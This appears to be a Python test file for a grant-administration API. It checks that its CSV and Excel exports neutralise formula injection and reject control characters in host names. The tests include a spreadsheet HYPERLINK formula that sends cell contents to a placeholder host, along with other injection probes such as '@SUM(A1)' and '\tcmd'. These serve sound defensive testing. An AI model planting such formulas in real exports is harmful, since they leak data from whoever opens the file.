"""Exports that cannot carry formulas, and text that cannot break an export.

A host name typed as a formula was written as one into the register CSV and the ledger and
reconciliation workbooks (openpyxl makes a leading = a formula); a U+0001 in a host name made
every later ledger.xlsx a 500.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from litestar import Litestar
from litestar.testing import AsyncTestClient
from openpyxl import load_workbook

from projections.spreadsheet import csv_cell, text_cell, xlsx_cell
from tests.api import bodies
from tests.api.conftest import Tokens
from tests.api.helpers import settled

Client = AsyncTestClient[Litestar]
FORMULA = '=HYPERLINK("https://x/?"&B2,"详情")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
    for dangerous in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"):
        assert text_cell(dangerous) == "'" + dangerous
    for plain in ("温州某某机械有限公司", "GK-2026-0001", "3303**********1234"):
        assert text_cell(plain) == plain
    # Numbers, negative ones included, stay numbers; money in a workbook is a number.
    assert csv_cell("-30000.00") == "-30000.00"
    assert xlsx_cell("-30000.00") == Decimal("-30000.00")
    assert xlsx_cell("GK-2026-0001") == "GK-2026-0001"


async def test_a_formula_in_a_host_name_reaches_no_export_as_a_formula(
    client: Client, tokens: Tokens
) -> None:
    body = bodies.submission()
    body["host"]["name"] = FORMULA
    made = await client.post("/api/v1/studios", json=body, headers=tokens.headers("applicant"))
    assert made.status_code == 201, made.text
    sid = made.json()["id"]
    office = tokens.headers("city_office")
    for path, payload, headers in (
        ("county-review", bodies.APPROVE, tokens.headers("county_reviewer")),
        ("assessment", bodies.ASSESS, office),
        ("award", bodies.AWARD, office),
        ("subsidy-payments", bodies.payment(), tokens.headers("finance")),
    ):
        answer = await client.post(f"/api/v1/studios/{sid}/{path}", json=payload, headers=headers)
        assert answer.status_code == 200, answer.text
    await settled(client)

    register = await client.get("/api/v1/studios", headers={**office, "Accept": "text/csv"})
    rows = list(csv.DictReader(io.StringIO(register.content.decode("utf-8-sig"))))
    assert rows[0]["host"] == "'" + FORMULA

    ledger = await client.get("/api/v1/ledger/entries", headers={**tokens.headers("finance"), "Accept": XLSX})
    assert ledger.status_code == 200, ledger.text
    sheet = load_workbook(io.BytesIO(ledger.content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    hosts = {cell["host_name"].value for cell in cells if "host_name" in cell}
    assert hosts == {"'" + FORMULA}
    assert all(cell["host_name"].data_type == "s" for cell in cells)
    amounts = [cell["amount"].value for cell in cells]
    assert all(isinstance(a, (int, float, Decimal)) for a in amounts), amounts


async def test_control_characters_are_refused(client: Client, tokens: Tokens) -> None:
    body = bodies.submission()
    body["host"]["name"] = "温州\u0001机械有限公司"
    answer = await client.post("/api/v1/studios", json=body, headers=tokens.headers("applicant"))
    assert answer.status_code == 422
    assert "U+0001" in answer.json()["detail"]
    assert answer.json()["errors"]
    ledger = await client.get("/api/v1/ledger/entries", headers={**tokens.headers("finance"), "Accept": XLSX})
    assert ledger.status_code == 200
